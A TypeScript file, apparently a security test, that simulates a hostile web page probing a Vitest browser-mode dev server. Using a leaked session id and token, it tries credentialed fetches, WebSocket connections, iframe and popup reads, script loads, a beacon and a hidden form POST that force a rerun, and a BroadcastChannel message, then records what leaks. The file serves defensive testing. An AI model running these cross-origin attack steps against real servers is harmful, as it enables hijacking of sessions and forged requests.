/** What an attacker's page was told. It is the worst case: everything that there is to know. */
export interface Loot {
  readonly origin: string
  readonly sessionId: string
  readonly testerId: string
  readonly token: string
}

/** What came of each attempt; `''` stands for nothing. */
export type Outcome = Record<string, string>

/** Runs in the attacker's page, so it can use nothing from outside of itself. */
export async function attack(loot: Loot): Promise<Outcome> {
  const { origin, sessionId, testerId, token } = loot
  const outcome: Outcome = {}
  const orchestrator = `${origin}/__vitest_test__/?sessionId=${sessionId}`
  const tester = `${origin}/?sessionId=${sessionId}&iframeId=x`
  const state = `${origin}/__vitest_test__/state?sessionId=${sessionId}`
  const rerun = `${origin}/__vitest_test__/rerun`
  const socketQuery = `sessionId=${sessionId}&rpcId=${testerId}&projectName=x&method=run&token=${token}`
  const deadline = 5000

  const within = <T>(work: Promise<T>, late: T): Promise<T> =>
    Promise.race([
      work,
      new Promise<T>((resolve) => {
        setTimeout(resolve, deadline, late)
      }),
    ])

  for (const [name, url] of Object.entries({ orchestrator, tester, state, rerun })) {
    for (const mode of ['cors', 'no-cors'] as const) {
      const method = name === 'rerun' ? 'POST' : 'GET'
      const body = method === 'POST' ? new URLSearchParams({ sessionId }) : null
      outcome[`fetch ${name} ${mode}`] = await fetch(url, {
        mode,
        method,
        body,
        credentials: 'include',
      })
        .then((response) => response.text())
        .catch(() => '')
    }
  }

  for (const [name, url] of Object.entries({
    orchestrator: `/__vitest_browser_api__?type=orchestrator&${socketQuery}`,
    tester: `/__vitest_browser_api__?type=tester&${socketQuery}`,
    api: '/__vitest_api__',
    vite: '/',
  })) {
    outcome[`socket ${name}`] = await within(
      new Promise<string>((resolve) => {
        const socket = new WebSocket(
          `${origin.replace('http', 'ws')}${url}`,
          name === 'vite' ? ['vite-hmr'] : [],
        )
        socket.addEventListener('open', () => {
          resolve('open')
          socket.close()
        })
        socket.addEventListener('error', () => {
          resolve('')
        })
      }),
      'no answer',
    )
  }

  for (const [name, url] of Object.entries({ orchestrator, tester, state })) {
    const frame = document.createElement('iframe')
    frame.src = url
    const loaded = new Promise<string>((resolve) => {
      frame.addEventListener('load', () => {
        resolve('')
      })
      frame.addEventListener('error', () => {
        resolve('')
      })
    })
    document.body.append(frame)
    await within(loaded, '')
    try {
      outcome[`frame ${name}`] = frame.contentDocument?.documentElement.outerHTML ?? ''
    } catch {
      outcome[`frame ${name}`] = ''
    }
    frame.remove()
  }

  const runtime = `${origin}/__livetab__/__vitest_browser__/x.js`
  const chunk = `${origin}/__livetab__/chunk/x.js`
  for (const [name, url] of Object.entries({ orchestrator, tester, runtime, chunk })) {
    const script = document.createElement('script')
    script.src = url
    outcome[`script ${name}`] = await within(
      new Promise<string>((resolve) => {
        script.addEventListener('load', () => {
          resolve('loaded')
        })
        script.addEventListener('error', () => {
          resolve('')
        })
        document.head.append(script)
      }),
      '',
    )
  }

  const popup = window.open(orchestrator)
  try {
    outcome['popup'] = popup?.document.documentElement.outerHTML.includes('script')
      ? 'readable'
      : ''
  } catch {
    outcome['popup'] = ''
  }

  outcome['beacon'] = ''
  navigator.sendBeacon(rerun, new URLSearchParams({ sessionId }))

  const target = document.createElement('iframe')
  target.name = 'target'
  document.body.append(target)
  const form = document.createElement('form')
  form.method = 'POST'
  form.action = rerun
  form.target = 'target'
  const input = document.createElement('input')
  input.name = 'sessionId'
  input.value = sessionId
  form.append(input)
  document.body.append(form)
  const answered = new Promise<string>((resolve) => {
    target.addEventListener('load', () => {
      resolve('')
    })
  })
  form.submit()
  outcome['form'] = await within(answered, '')

  const channel = new BroadcastChannel(`vitest:${sessionId}`)
  const heard: string[] = []
  channel.addEventListener('message', (event) => heard.push(JSON.stringify(event.data)))
  channel.postMessage({ event: 'viewport', iframeId: 'x', width: 1, height: 1 })
  outcome['channel'] = heard.join('')
  return outcome
}
